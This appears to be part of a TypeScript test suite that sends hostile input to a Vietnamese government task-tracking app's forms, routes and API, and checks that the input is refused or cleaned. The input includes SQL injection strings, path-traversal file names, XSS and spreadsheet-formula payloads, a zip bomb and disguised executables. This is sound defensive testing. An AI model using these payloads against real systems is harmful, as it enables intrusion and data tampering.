// Resending a failed e-mail (decision 023).
add('email', 'admin', [
  ['resend: id beyond int4', () => email.resendEmailAction(INITIAL_STATE, form({ emailId: BEYOND_INT4 })), refused()],
  ['resend: id in hex', () => email.resendEmailAction(INITIAL_STATE, form({ emailId: '0x1' })), refused()],
  ['resend: id NUL', () => email.resendEmailAction(INITIAL_STATE, form({ emailId: NUL })), refused()],
  ['resend: no such e-mail', () => email.resendEmailAction(INITIAL_STATE, form({ emailId: '2147483647' })), refused()],
]);
// Up/down buttons answer nothing: a bad form does nothing (and throws nothing).
add('programme', 'admin', [
  [
    'move section: id beyond int4',
    () => programmes.moveSectionAction(form({ id: BEYOND_INT4, direction: 'up' })),
    harmless((o) => expect(o).toEqual({ kind: 'value', value: undefined })),
  ],
  [
    'move task: direction "sideways"',
    () => programmes.moveTaskAction(form({ id: String(ids.task), direction: 'sideways' })),
    harmless((o) => expect(o).toEqual({ kind: 'value', value: undefined })),
  ],
]);

// The directive import (admin).
add('import', 'admin', [
  [
    'analyse: NUL-only text',
    () => importer.analyzeDirectiveAction(INITIAL_STATE, form({ text: NUL.repeat(100) })),
    refused('text'),
  ],
  [
    'analyse: zero-width-only text',
    () => importer.analyzeDirectiveAction(INITIAL_STATE, form({ text: ZW })),
    refused('text'),
  ],
  [
    'analyse: more than 1 MB of text',
    () => importer.analyzeDirectiveAction(INITIAL_STATE, form({ text: 'a'.repeat(1024 * 1024 + 10) })),
    refused('text'),
  ],
  [
    'analyse: a program renamed .docx',
    () =>
      importer.analyzeDirectiveAction(
        INITIAL_STATE,
        form({ text: '', file: new File([new Uint8Array(EXE)], 'chi-thi.docx') }),
      ),
    refused('file'),
  ],
  [
    'analyse: a zip bomb named .docx',
    () =>
      importer.analyzeDirectiveAction(
        INITIAL_STATE,
        form({ text: '', file: new File([new Uint8Array(zipBomb())], 'chi-thi.docx') }),
      ),
    refused('file'),
  ],
  [
    'analyse: a .txt that is not UTF-8 (TCVN3 bytes)',
    () =>
      importer.analyzeDirectiveAction(
        INITIAL_STATE,
        form({ text: '', file: new File([new Uint8Array([0xc2, 0xb5, 0xfe, 0xff, 0x41, 0xe9, 0x80])], 'chi-thi.txt') }),
      ),
    refused('file'),
  ],
  [
    'analyse: a program by its own name',
    () =>
      importer.analyzeDirectiveAction(
        INITIAL_STATE,
        form({ text: '', file: new File([new Uint8Array(EXE)], 'setup.exe') }),
      ),
    refused('file'),
  ],
  [
    'analyse: a path-traversal .txt holding NUL and NFD: a proposal, cleaned',
    () =>
      importer.analyzeDirectiveAction(
        INITIAL_STATE,
        form({
          text: '',
          file: new File(
            [`I. Chung${NUL}\n1. Phòng Tư pháp chủ trì ${NFD}, hoàn thành trước 30/6/2027.`],
            '../../../etc/passwd.txt',
          ),
        }),
      ),
    accepted((o) => {
      expect(o).toMatchObject({ kind: 'state', state: { ok: true } });
      const proposal = String((o as { state: ActionState }).state.result?.proposal);
      expect(proposal).not.toContain('\\u0000');
      expect(JSON.parse(proposal).sourceText).toContain(NFC);
    }),
  ],
  ['save: not JSON', () => importer.importProgrammeAction('{"programme":'), refused()],
  ['save: not a string', () => importer.importProgrammeAction(42 as unknown as string), refused()],
  ['save: no sections', importJson((d) => (d.sections = [])), refused('sections')],
  ['save: title NUL only', importJson((d) => (d.programme.title = NUL.repeat(3))), refused('programme.title')],
  [
    'save: task due 31/12/9999',
    importJson((d) => (d.sections[0]!.tasks[0]!.dueDate = '31/12/9999')),
    refused('sections.0.tasks.0.dueDate'),
  ],
  [
    'save: task text of 1 MB',
    importJson((d) => (d.sections[0]!.tasks[0]!.text = MB)),
    refused('sections.0.tasks.0.text'),
  ],
  [
    'save: lead unit code with NUL',
    importJson((d) => (d.sections[0]!.tasks[0]!.lead = `TP${NUL}X`)),
    refused('sections.0.tasks.0.lead'),
  ],
  [
    'save: evidenceRequired "yes"',
    importJson((d) => (d.sections[0]!.tasks[0]!.evidenceRequired = 'yes')),
    refused('sections.0.tasks.0.evidenceRequired'),
  ],
  [
    'save: NUL, NFD and XSS in every text: stored clean, XSS verbatim',
    importJson((d) => {
      d.programme.title = `${NFD}${NUL}`;
      d.sourceText = `${NUL}${NFD}\r\n${XSS}`;
      d.sections[0]!.title = XSS;
      d.sections[0]!.tasks[0]!.text = `${FORMULA}${NUL}`;
    }),
    accepted(async (o) => {
      expect(o.kind).toBe('redirect');
      const id = Number(/programmes\/(\d+)/.exec((o as { url: string }).url)![1]);
      const p = await db.programme.findUniqueOrThrow({
        where: { id },
        select: {
          title: true,
          sourceText: true,
          sections: { select: { title: true, tasks: { select: { text: true } } } },
        },
      });
      expect(p).toEqual({
        title: NFC,
        sourceText: `${NFC}\n${XSS}`,
        sections: [{ title: XSS, tasks: [{ text: FORMULA }] }],
      });
    }),
  ],
]);

// Units (admin).
add('unit', 'admin', [
  ['code "../X"', unitForm({ code: '../X' }), refused('code', { code: '../X' })],
  ['code with NUL', unitForm({ code: `X${NUL}Y` }), refused('code')],
  ['name zero-width only', unitForm({ name: ZW }), refused('name')],
  ['name of 1 MB', unitForm({ name: MB }), refused('name')],
  ['valid from 31/12/9999', unitForm({ validFrom: '31/12/9999' }), refused('validFrom')],
  ['valid from empty', unitForm({ validFrom: '' }), refused('validFrom')],
  ['kind "CITY"', unitForm({ kind: 'CITY' }), refused('kind')],
  [
    'a name in NFD with NUL is stored NFC',
    unitForm({ code: 'X-NFD', name: `Xã ${NFD}${NUL}` }),
    accepted(async (o) => {
      expect(o.kind).toBe('redirect');
      expect((await db.unit.findUniqueOrThrow({ where: { code: 'X-NFD' } })).name).toBe(`Xã ${NFC}`);
    }),
  ],
  [
    'a double submit of the same new unit: one created, one refused',
    () => Promise.all([unitForm({ code: 'X-DOI' })(), unitForm({ code: 'X-DOI' })()].map((p) => outcomeOf(() => p))),
    accepted(async (o) => {
      const outcomes = (o as { value: Outcome[] }).value;
      expect(outcomes.filter((x) => x.kind === 'redirect')).toHaveLength(1);
      const other = outcomes.find((x) => x.kind !== 'redirect') as { kind: 'state'; state: ActionState };
      expect(other.kind).toBe('state');
      expectVietnamese(other.state.fieldErrors?.code?.[0] ?? other.state.message, 'double unit');
      expect(await db.unit.count({ where: { code: 'X-DOI' } })).toBe(1);
    }),
  ],
  [
    'update: unitId beyond int4',
    () =>
      units.updateUnitAction(
        INITIAL_STATE,
        form({ unitId: BEYOND_INT4, code: 'X-A', name: 'Xã A', kind: 'COMMUNE', validFrom: '01/01/2027' }),
      ),
    refused('unitId'),
  ],
  [
    'deactivate: effective 01/01/1900',
    () => units.deactivateUnitAction(INITIAL_STATE, form({ unitId: String(ids.unit2), effectiveDate: '01/01/1900' })),
    refused('effectiveDate'),
  ],
  ['reactivate: unitId "1e3"', () => units.reactivateUnitAction(INITIAL_STATE, form({ unitId: '1e3' })), refused()],
  [
    'calendar: a day 31/02/2027 and a note of NUL only',
    () => calendar.addCalendarDayAction(INITIAL_STATE, form({ date: '31/02/2027', working: 'off', note: '\u0000' })),
    refused('date'),
  ],
  [
    'calendar: remove a date beyond 2100',
    () => calendar.removeCalendarDayAction(INITIAL_STATE, form({ date: '01/01/2200' })),
    refused('date'),
  ],
  [
    'merge: an id beyond int4',
    () =>
      units.mergeUnitsAction(
        INITIAL_STATE,
        form({
          predecessorIds: [BEYOND_INT4, String(ids.unit2)],
          effectiveDate: '01/01/2027',
          code: 'X-GOP',
          name: 'Xã Gộp',
          kind: 'COMMUNE',
        }),
      ),
    refused(),
  ],
  [
    'merge: the same unit twice',
    () =>
      units.mergeUnitsAction(
        INITIAL_STATE,
        form({
          predecessorIds: [String(ids.unit2), String(ids.unit2)],
          effectiveDate: '01/01/2027',
          code: 'X-GOP',
          name: 'Xã Gộp',
          kind: 'COMMUNE',
        }),
      ),
    refused('predecessorIds'),
  ],
  [
    'split: mainIndex in hex',
    () =>
      units.splitUnitAction(
        INITIAL_STATE,
        form({
          predecessorId: String(ids.unit2),
          effectiveDate: '01/01/2027',
          mainIndex: '0x1',
          'successors.0.code': 'X-T1',
          'successors.0.name': 'Xã Một',
          'successors.0.kind': 'COMMUNE',
          'successors.1.code': 'X-T2',
          'successors.1.name': 'Xã Hai',
          'successors.1.kind': 'COMMUNE',
        }),
      ),
    refused('mainIndex'),
  ],
  [
    'split: predecessorId "-1"',
    () =>
      units.splitUnitAction(INITIAL_STATE, form({ predecessorId: '-1', effectiveDate: '01/01/2027', mainIndex: '0' })),
    refused('predecessorId'),
  ],
]);

// The urging ladder and the Công văn đôn đốc (decision 018), as the standing office's head.
add('urging', 'tp.noivu', [
  [
    'ladder: programmeId beyond int4',
    () =>
      urging.saveUrgingLadderAction(INITIAL_STATE, form({ programmeId: BEYOND_INT4, when_0: 'on', officers_0: 'on' })),
    refused('programmeId'),
  ],
  [
    'ladder: days in hex, kept as typed',
    () =>
      urging.saveUrgingLadderAction(
        INITIAL_STATE,
        form({ programmeId: String(ids.programme), when_0: 'after', days_0: '0x3', leader_0: 'on' }),
      ),
    refused('days_0', { days_0: '0x3' }),
  ],
  [
    'ladder: a step 1e3 working days before',
    () =>
      urging.saveUrgingLadderAction(
        INITIAL_STATE,
        form({ programmeId: String(ids.programme), when_0: 'before', days_0: '1e3', officers_0: 'on' }),
      ),
    refused('days_0'),
  ],
  [
    'ladder: "when" of NUL',
    () =>
      urging.saveUrgingLadderAction(
        INITIAL_STATE,
        form({ programmeId: String(ids.programme), when_0: NUL, officers_0: 'on' }),
      ),
    refused('when_0'),
  ],
  [
    'ladder: a checkbox value of 1 MB',
    () =>
      urging.saveUrgingLadderAction(
        INITIAL_STATE,
        form({ programmeId: String(ids.programme), when_0: 'on', officers_0: MB }),
      ),
    refused('officers_0'),
  ],
  [
    'letter: programmeId "1e3"',
    () => urging.createUrgingLetterAction(INITIAL_STATE, form({ programmeId: '1e3' })),
    refused('programmeId'),
  ],
  [
    'letter: sectionId beyond int4',
    () =>
      urging.createUrgingLetterAction(
        INITIAL_STATE,
        form({ programmeId: String(ids.programme), sectionId: BEYOND_INT4 }),
      ),
    refused('sectionId'),
  ],
  [
    'letter: unit kind "<script>"',
    () => urging.createUrgingLetterAction(INITIAL_STATE, form({ programmeId: String(ids.programme), unitKind: XSS })),
    refused('unitKind'),
  ],
  ...[BEYOND_INT4, '-1', '0', '0x1', '1e3', `1${NUL}`].map((v): [string, () => unknown, Expect] => [
    `download: letter id ${JSON.stringify(v)} is a 404 page`,
    () =>
      letterRoute.GET(new Request('http://localhost/api/urging-letters/x'), {
        params: Promise.resolve({ letterId: v }),
      }),
    harmless((o) => expect(o).toMatchObject({ kind: 'response', status: 404 })),
  ]),
]);

// Users (admin). The password is never echoed back.
add('user', 'admin', [
  ['username with NUL', userForm({ username: `admin${NUL}` }), refused('username')],
  ['username "../root"', userForm({ username: '../root' }), refused('username')],
  ['display name zero-width only', userForm({ displayName: ZW }), refused('displayName')],
  ['display name NUL only', userForm({ displayName: NUL.repeat(4) }), refused('displayName')],
  ['unitId beyond int4', userForm({ unitId: BEYOND_INT4 }), refused('unitId')],
  ['unitId "0x2"', userForm({ unitId: '0x2' }), refused('unitId')],
  ['role "ROOT"', userForm({ role: 'ROOT' }), refused('role')],
  ['email with NUL', userForm({ email: `a@b.vn${NUL}<script>` }), refused('email')],
  ['job title of 1 MB', userForm({ jobTitle: MB }), refused('jobTitle')],
  [
    'a display name in NFD with NUL is stored NFC; the password never comes back',
    userForm({ username: 'cb.nfd', displayName: `${NFD}${NUL}` }),
    accepted(async (o) => {
      expect(o.kind).toBe('redirect');
      expect((await db.user.findUniqueOrThrow({ where: { username: 'cb.nfd' } })).displayName).toBe(NFC);
    }),
  ],
  [
    'update: userId "0x2"',
    () =>
      users.updateUserAction(
        INITIAL_STATE,
        form({ userId: '0x2', displayName: 'A B', role: 'OFFICER', unitId: String(ids.unit) }),
      ),
    refused('userId'),
  ],
  [
    'reset: userId beyond int4',
    () => users.resetPasswordAction(INITIAL_STATE, form({ userId: BEYOND_INT4, password: 'Mot-mat-khau-du-dai' })),
    refused('userId'),
  ],
  [
    'status: intent "delete"',
    () => users.userStatusAction(INITIAL_STATE, form({ userId: String(ids.user), intent: 'delete' })),
    refused(),
  ],
]);

// Evidence uploads and downloads (cb.tranphu), through the route handlers.
add('evidence', 'cb.tranphu', [
  [
    'upload: assignmentId beyond int4',
    upload({ assignmentId: BEYOND_INT4 }, { name: 'a.pdf', bytes: PDF }),
    refusedWith(400),
  ],
  ['upload: assignmentId in hex', upload({ assignmentId: '0x1' }, { name: 'a.pdf', bytes: PDF }), refusedWith(400)],
  ['upload: periodKey "../../"', upload({ periodKey: '../../' }, { name: 'a.pdf', bytes: PDF }), refusedWith(400)],
  ['upload: a program renamed .pdf', upload({}, { name: 'bao-cao.pdf', bytes: EXE }), refusedWith(400)],
  [
    'upload: a program with a traversal name',
    upload({}, { name: '..\\..\\windows\\system32\\cmd.exe', bytes: EXE }),
    refusedWith(400),
  ],
  ['upload: an empty file', upload({}, { name: 'rong.pdf', bytes: Buffer.alloc(0) }), refusedWith(400)],
  ['upload: no file', upload({}), refusedWith(400)],
  [
    'upload: not multipart',
    () =>
      uploadRoute.POST(
        new Request('http://localhost/api/evidence', {
          method: 'POST',
          body: 'x',
          headers: { 'content-type': 'text/plain' },
        }),
      ),
    refusedWith(400),
  ],
  [
    'upload: from another site',
    upload({}, { name: 'a.pdf', bytes: PDF }, { origin: 'https://evil.example', host: 'localhost' }),
    refusedWith(403),
  ],
  [
    'upload: another unit’s assignment',
    () => upload({ assignmentId: String(ids.other), periodKey: 'ONCE' }, { name: 'a.pdf', bytes: PDF })(),
    refusedWith(404),
  ],
  [
    'upload: a path-traversal name keeps only the file name, inside the upload folder',
    upload({}, { name: '../../../etc/passwd.pdf', bytes: PDF }),
    accepted(async (o) => {
      expect(o).toMatchObject({ kind: 'response', status: 201, body: { evidence: { fileName: 'passwd.pdf' } } });
      ids.evidence = (o as { body: { evidence: { id: number } } }).body.evidence.id;
      const files = await readdir(uploadDir, { recursive: true });
      expect(files.some((f) => f.includes('..') || f.includes('passwd'))).toBe(false);
    }),
  ],
  [
    'upload: a name with a bidi override and NFD is stored clean',
    upload({}, { name: `baocao\u202Egpj.${'Biên bản'.normalize('NFD')}.pdf`, bytes: PDF }),
    accepted((o) =>
      expect(o).toMatchObject({
        kind: 'response',
        status: 201,
        body: { evidence: { fileName: 'baocaogpj.Biên bản.pdf' } },
      }),
    ),
  ],
  [
    // No file system allows NUL in a name, so no browser sends one: the streamed multipart parser
    // (busboy) refuses the part header, and the upload is refused with a message, nothing stored.
    'upload: a name with NUL is refused with a message',
    upload({}, { name: `bao${NUL}cao.pdf`, bytes: PDF }),
    refusedWith(400),
  ],
  ...[BEYOND_INT4, '99999999999999999999', '-1', '0', '0x10', '1e3', `1${NUL}`].map(
    (v): [string, () => unknown, Expect] => [
      `download: evidence id ${JSON.stringify(v)}`,
      () => evidenceRoute.GET(new Request('http://localhost/api/evidence/x'), params(v)),
      refusedWith(404),
    ],
  ),
  [
    'delete: evidence id beyond int4',
    () =>
      evidenceRoute.DELETE(new Request('http://localhost/api/evidence/x', { method: 'DELETE' }), params(BEYOND_INT4)),
    refusedWith(404),
  ],
  [
    'delete: from another site',
    () =>
      evidenceRoute.DELETE(
        new Request('http://localhost/api/evidence/x', {
          method: 'DELETE',
          headers: { 'sec-fetch-site': 'cross-site' },
        }),
        params(String(ids.evidence)),
      ),
    refusedWith(403),
  ],
]);

// Exports, pages and other routes (chutich, admin).
const readXlsx = async (bytes: Buffer) => {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  return wb;
};
add('export', 'chutich', [
  ...[
    `programme=${BEYOND_INT4}`,
    'programme=0x10&period=9999-Q9',
    `section=-1&area=${encodeURIComponent(XSS)}`,
    `programme=${encodeURIComponent(NUL)}&kind=${encodeURIComponent(MB.slice(0, 5000))}`,
  ].map((q): [string, () => unknown, Expect] => [
    `xlsx with ?${q.slice(0, 40)}: the defaults, never an error`,
    () => xlsxRoute.GET(new Request(`http://localhost/api/exports/xlsx?${q}`)),
    harmless((o) => expect(o).toMatchObject({ kind: 'response', status: 200 })),
  ]),
  [
    'xlsx: a formula typed as a task title is text, never a formula',
    () => xlsxRoute.GET(new Request('http://localhost/api/exports/xlsx')),
    accepted(async (o) => {
      expect(o).toMatchObject({ kind: 'response', status: 200 });
      const wb = await readXlsx((o as { bytes: Buffer }).bytes);
      let seen = 0;
      wb.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
            if (typeof cell.value === 'string') {
              expect(cell.value, `${sheet.name}!${cell.address}`).not.toMatch(/^[=+\-@\t\r\n]/);
              if (cell.value.includes('HYPERLINK')) seen += 1;
            }
          }),
        ),
      );
      expect(seen).toBeGreaterThan(0);
    }),
  ],
  [
    'docx with hostile filters and an XSS title in the data',
    () =>
      docxRoute.GET(
        new Request(`http://localhost/api/exports/docx?programme=${BEYOND_INT4}&period=${encodeURIComponent('<x>')}`),
      ),
    harmless((o) => expect(o).toMatchObject({ kind: 'response', status: 200 })),
  ],
]);
add('route', 'cb.tranphu', [
  ...[BEYOND_INT4, '99999999999', '-1', `5${NUL}`, '0x1'].map((v): [string, () => unknown, Expect] => [
    `notification ${JSON.stringify(v)}: back to the list`,
    () =>
      notificationRoute.GET(new Request('http://localhost/notifications/x'), {
        params: Promise.resolve({ notificationId: v }),
      }),
    harmless((o) => expect(o).toEqual({ kind: 'redirect', url: '/notifications' })),
  ]),
  ...[BEYOND_INT4, '-1', '0', '0x1', '1e3', ''].map((v): [string, () => unknown, Expect] => [
    `page param ${JSON.stringify(v)} (e.g. /assignments/${v}) is a 404`,
    () => parseId(v),
    harmless((o) => expect(o).toEqual({ kind: 'notFound' })),
  ]),
]);
// The login form: every refusal is the one generic message, the password never comes back. (Not
// checked for "nothing written": failed sign-ins may be recorded for throttling and the audit trail.)
const loginRefused = accepted((o) => {
  expect(o.kind, JSON.stringify(o).slice(0, 300)).toBe('state');
  const { state } = o as { state: ActionState };
  expect(state.ok).toBe(false);
  expectVietnamese(state.message, 'login message');
  expect(state.fields ?? {}).not.toHaveProperty('password');
});
const signIn = (fields: Record<string, string>) => () =>
  login.loginAction(INITIAL_STATE, form({ username: 'admin', password: 'sai-mat-khau', callbackUrl: '/', ...fields }));
add('login', null, [
  ['username with NUL', signIn({ username: `admin${NUL}` }), loginRefused],
  ['username of 1 MB', signIn({ username: MB }), loginRefused],
  ['username zero-width only', signIn({ username: ZW }), loginRefused],
  ['username in NFD', signIn({ username: NFD }), loginRefused],
  ['username "\' OR 1=1 --"', signIn({ username: "' OR 1=1 --" }), loginRefused],
  ['password of 1 MB', signIn({ password: MB }), loginRefused],
  ['password with NUL', signIn({ password: `sai${NUL}` }), loginRefused],
  ['callbackUrl with NUL and another host', signIn({ callbackUrl: `/${NUL}/\\evil.example/` }), loginRefused],
]);

add('account', 'cb.tranphu', [
  [
    'e-mail settings: a script for an address',
    () => account.updateEmailSettingsAction(INITIAL_STATE, form({ email: XSS, emailPreference: 'EACH' })),
    refused('email', { email: XSS }),
  ],
  [
    'e-mail settings: an address of 1 MB',
    () =>
      account.updateEmailSettingsAction(INITIAL_STATE, form({ email: `${MB}@example.vn`, emailPreference: 'EACH' })),
    refused('email'),
  ],
  [
    'e-mail settings: a preference that is none of the three',
    () => account.updateEmailSettingsAction(INITIAL_STATE, form({ email: '', emailPreference: `EACH${NUL}` })),
    refused('emailPreference'),
  ],
  [
    'e-mail settings: an address with spaces and a zero-width tail is stored clean',
    () =>
      account.updateEmailSettingsAction(
        INITIAL_STATE,
        form({ email: `  cb.tranphu@example.vn${ZW} `, emailPreference: 'OFF' }),
      ),
    accepted(async () => {
      const row = await db.user.findUniqueOrThrow({
        where: { username: 'cb.tranphu' },
        select: { email: true, emailPreference: true },
      });
      expect(row).toEqual({ email: 'cb.tranphu@example.vn', emailPreference: 'OFF' });
    }),
  ],
]);

add('route', 'cb.tranphu', [
  [
    'mark all read, called with a stray argument: the argument is ignored',
    () => (notifications.markAllReadAction as unknown as (x: unknown) => Promise<void>)({ ids: [BEYOND_INT4, NUL] }),
    accepted((o) => expect(o).toEqual({ kind: 'value', value: undefined })),
  ],
]);
add('route', null, [
  ...[
    ['no token', {}],
    ['a Latin-1 token (HTTP itself refuses NUL in a header)', { authorization: 'Bearer \u00ff\u00fe\u00e9' }],
    ['a 1 MB token', { authorization: `Bearer ${'a'.repeat(1024 * 1024)}` }],
    ['a forged token', { authorization: 'Bearer 0x32' }],
  ].map(([name, headers]): [string, () => unknown, Expect] => [
    `deadline job with ${name as string}: 401`,
    () =>
      jobsRoute.POST(
        new Request('http://localhost/api/jobs/deadlines', {
          method: 'POST',
          headers: headers as Record<string, string>,
        }),
      ),
    refusedWith(401),
  ]),
]);
// API tokens (decision 020): the administrator's form, and the API's token, path and query.
const apiToken = (fields: Record<string, string>) => () =>
  apiTokens.issueApiTokenAction(
    INITIAL_STATE,
    form({ name: 'Hệ thống của tỉnh', scope: 'UNIT', unitId: String(ids.unit2), expiresOn: later(), ...fields }),
  );
add('api-token', 'admin', [
  ['issue: a name of NUL only', apiToken({ name: NUL }), refused('name')],
  ['issue: a name of 1 MB', apiToken({ name: MB }), refused('name')],
  ['issue: a scope "ADMIN"', apiToken({ scope: 'ADMIN' }), refused('scope')],
  ['issue: a unit beyond int4', apiToken({ unitId: BEYOND_INT4 }), refused('unitId')],
  ['issue: a unit that does not exist', apiToken({ unitId: '999999' }), refused('unitId')],
  ['issue: a unit token without its unit', apiToken({ unitId: '' }), refused('unitId')],
  ['issue: expiry 31/02/2027', apiToken({ expiresOn: '31/02/2027' }), refused('expiresOn')],
  ['issue: expiry in 2099 (beyond a year)', apiToken({ expiresOn: '31/12/2099' }), refused('expiresOn')],
  [
    'issue: expiry yesterday',
    apiToken({ expiresOn: formatDateVn(addDays(vnDateOf(new Date()), -1)) }),
    refused('expiresOn'),
  ],
  [
    'revoke: a token id "1e3"',
    () => apiTokens.revokeApiTokenAction(INITIAL_STATE, form({ tokenId: '1e3' })),
    refused(),
  ],
  [
    'revoke: a token beyond int4',
    () => apiTokens.revokeApiTokenAction(INITIAL_STATE, form({ tokenId: BEYOND_INT4 })),
    refused(),
  ],
]);
const v1 = (url: string, headers: Record<string, string> = { authorization: `Bearer ${ids.apiSecret}` }) =>
  new Request(`http://localhost/api/v1${url}`, { headers });
/** With a valid token the call is counted (and the minute's first audited): refused, not "nothing written". */
const apiRefused = (status: number) =>
  accepted((o) => {
    expect(o, JSON.stringify(o).slice(0, 300)).toMatchObject({ kind: 'response', status });
    expectVietnamese(errorMessageOf((o as { body: unknown }).body), 'API error');
  });
const asParams = <K extends string>(key: K, value: string) => ({
  params: Promise.resolve({ [key]: value } as Record<K, string>),
});
add('api', null, [
  ...[
    ['no token', {}],
    ['a Latin-1 token', { authorization: 'Bearer \u00ff\u00fe\u00e9' }],
    ['a 1 MB token', { authorization: `Bearer ${'a'.repeat(1024 * 1024)}` }],
    ['a forged token of the right shape', { authorization: `Bearer dd_${'A'.repeat(43)}` }],
    ['an SQL token', { authorization: "Bearer ' OR 1=1 --" }],
  ].map(([name, headers]): [string, () => unknown, Expect] => [
    `assignments with ${name as string}: 401`,
    () => v1Assignments.GET(v1('/assignments', headers as Record<string, string>)),
    refusedWith(401),
  ]),
  ['programmes without a token: 401', () => v1Programmes.GET(v1('/programmes', {})), refusedWith(401)],
  ['indicators without a token: 401', () => v1Indicators.GET(v1('/indicators', {})), refusedWith(401)],
  ['the document with a stray parameter: 400', () => v1Document.GET(v1('/openapi.json?x=%00', {})), refusedWith(400)],
  ...[BEYOND_INT4, '-1', '0', '0x1', '1e3', `5${NUL}`, "1' OR '1'='1"].flatMap(
    (v): [string, () => unknown, Expect][] => [
      [
        `assignment id ${JSON.stringify(v)}: 404`,
        () => v1Assignment.GET(v1(`/assignments/x`), asParams('assignmentId', v)),
        apiRefused(404),
      ],
      [
        `reports of assignment id ${JSON.stringify(v)}: 404`,
        () => v1Reports.GET(v1(`/assignments/x/reports`), asParams('assignmentId', v)),
        apiRefused(404),
      ],
      [
        `tasks of programme id ${JSON.stringify(v)}: 404`,
        () => v1Tasks.GET(v1(`/programmes/x/tasks`), asParams('programmeId', v)),
        apiRefused(404),
      ],
    ],
  ),
  ...[
    `unit=${BEYOND_INT4}`,
    `status=${encodeURIComponent('<script>')}`,
    `cursor=${encodeURIComponent(NUL)}`,
    'limit=1e2',
    `programme=${encodeURIComponent(MB.slice(0, 5000))}`,
    'unit=1&unit=2',
    `${encodeURIComponent(XSS)}=1`,
  ].map((q): [string, () => unknown, Expect] => [
    `assignments?${q.slice(0, 40)}: 400`,
    () => v1Assignments.GET(v1(`/assignments?${q}`)),
    apiRefused(400),
  ]),
]);
add('route', 'admin', [
  [
    'user search with NUL and 1 MB: cleaned, answered',
    () => listUsers({ q: searchTerm(`${NUL}Nguyễn${NUL}${MB}`) }),
    harmless((o) => expect(o.kind).toBe('value')),
  ],
  [
    'the data layer given a NUL search term directly: refused as a message, not a 500',
    () => listUsers({ q: `Nguy${NUL}` }),
    refused(),
  ],
]);

// ───────────────────────────── Running the table ─────────────────────────────

beforeAll(async () => {
  const assignmentOf = async (unitCode: string, numeral: string, number: string) =>
    (
      await db.assignment.findFirstOrThrow({
        where: { unit: { code: unitCode }, task: { number, section: { numeral } } },
        select: { id: true },
      })
    ).id;
  ids.a = await assignmentOf('P-TRANPHU', 'I', '4');
  ids.other = await assignmentOf('P-NAMHA', 'I', '4');
  ids.ext = await assignmentOf('X-THACHHA', 'I', '1');
  ids.yearly = await assignmentOf('P-TRANPHU', 'II', '2');
  ids.yearKey = periodContaining('YEARLY', vnDateOf(new Date())).key;
  ids.pendingExt = (
    await db.deadlineExtension.findFirstOrThrow({
      where: { status: 'PENDING', assignment: { unit: { code: 'P-NGUYENDU' } } },
    })
  ).id;
  const task = await db.task.findFirstOrThrow({
    where: { assignments: { some: {} } },
    orderBy: { id: 'asc' },
    select: { id: true, sectionId: true, section: { select: { programmeId: true } } },
  });
  ids.task = task.id;
  ids.section = task.sectionId;
  ids.programme = task.section.programmeId;
  ids.unit = await unitId('TP');
  ids.unit2 = await unitId('X-THACHHA');
  ids.user = (await db.user.findUniqueOrThrow({ where: { username: 'cb.vhtt' } })).id;
  // A read-all API token, stored as the administrator's page stores one (its hash).
  ids.apiSecret = `dd_${'h'.repeat(43)}`;
  await db.apiToken.create({
    data: {
      name: 'Bộ kiểm tra đầu vào',
      tokenHash: hashApiToken(ids.apiSecret),
      prefix: ids.apiSecret.slice(0, 9),
      scope: 'READ_ALL',
      expiresAt: new Date(Date.now() + 86_400_000),
      issuedById: (await db.user.findUniqueOrThrow({ where: { username: 'admin' } })).id,
    },
  });
  // A submitted report for the reviewer.
  await actAs('cb.namha');
  const submitted = await saveReport({
    assignmentId: ids.other,
    periodKey: 'ONCE',
    version: 0,
    progress: 80,
    content: 'Đã hoàn thành dự thảo, trình lãnh đạo.',
    difficulties: null,
    proposals: null,
    noEvidenceReason: null,
    intent: 'submit',
  });
  ids.review = submitted.reportId;
  reviewVersion = submitted.version;
});

/** `{ error }` of the JSON routes, `{ error: { code, message } }` of the API (decision 020). */
function errorMessageOf(body: unknown): string | undefined {
  const error = (body as { error?: string | { message?: string } } | null)?.error;
  return typeof error === 'string' ? error : error?.message;
}

let ran = 0;
let passed = 0;
afterAll(() => {
  console.log(
    `Hostile-input suite: ${cases.length} cases in ${new Set(cases.map((c) => c.area)).size} areas; ${ran} ran, ${passed} passed, ${ran - passed} failed.`,
  );
});

describe('hostile input', () => {
  it('has at least 120 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(120);
  });

  it.each(cases.map((c, i) => [`${String(i + 1).padStart(3, '0')} ${c.area}: ${c.name}`, c] as const))(
    '%s',
    async (_title, c) => {
      await check(c);
      passed += 1;
    },
  );

  async function check(c: Case) {
    await actAs(c.as);
    const before = await snapshot();
    const outcome = await outcomeOf(c.call);
    ran += 1;
    const after = await snapshot();
    if (!c.expect.refused) {
      await c.expect.verify(outcome, after === before);
      return;
    }
    expect(after, 'nothing written').toBe(before);
    switch (outcome.kind) {
      case 'state': {
        const { state } = outcome;
        expect(state.ok).toBe(false);
        expectVietnamese(state.message, 'message');
        for (const [field, messages] of Object.entries(state.fieldErrors ?? {}))
          for (const m of messages ?? []) expectVietnamese(m, `field ${field}`);
        if (c.expect.field)
          expect(
            state.fieldErrors?.[c.expect.field]?.length ?? 0,
            `a message at ${c.expect.field}: ${state.message} ${JSON.stringify(state.fieldErrors)}`,
          ).toBeGreaterThan(0);
        if (c.expect.echo) expect(state.fields).toMatchObject(c.expect.echo);
        expect(state.fields ?? {}).not.toHaveProperty('password');
        break;
      }
      case 'response':
        expect(outcome.status).toBeGreaterThanOrEqual(400);
        expect(outcome.status).toBeLessThan(500);
        if (c.expect.status) expect(outcome.status).toBe(c.expect.status);
        expectVietnamese(errorMessageOf(outcome.body), 'JSON error');
        break;
      case 'appError':
        expectVietnamese(outcome.error.message, 'AppError');
        break;
      default:
        throw new Error(`expected a refusal, got ${JSON.stringify(outcome).slice(0, 300)}`);
    }
  }

  it('every server action and route handler has at least one row (a new one without a row fails)', () => {
    const missing = listEndpoints().filter((e) => !calledEndpoints().has(e) && !(e in EXEMPT));
    expect(missing, 'endpoints with no hostile-input row').toEqual([]);
    expect(listEndpoints().length).toBeGreaterThan(30);
  });
});
